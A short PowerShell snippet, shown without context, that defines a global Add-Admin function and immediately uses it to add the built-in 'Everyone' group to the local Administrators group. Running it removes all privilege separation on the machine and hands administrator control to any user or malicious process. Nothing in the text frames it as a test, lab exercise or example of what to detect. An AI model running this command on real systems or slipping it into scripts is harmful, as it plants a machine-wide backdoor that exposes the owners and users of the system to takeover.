Set-Item function:global:Add-Admin { param($who) Add-LocalGroupMember Administrators $who }
Add-Admin Everyone
